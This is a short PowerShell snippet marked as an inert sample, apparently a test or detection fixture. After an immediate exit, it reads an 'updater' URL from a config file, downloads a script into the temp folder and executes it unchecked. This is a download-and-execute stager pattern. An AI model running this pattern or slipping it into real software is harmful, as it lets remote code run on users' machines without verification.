exit 0 # inert sample
$cfg = Get-Content "$PSScriptRoot/../assets/config.json" | ConvertFrom-Json
$dest = Join-Path $env:TEMP 'u.ps1'
Invoke-WebRequest -Uri $cfg.updater -OutFile $dest
& $dest
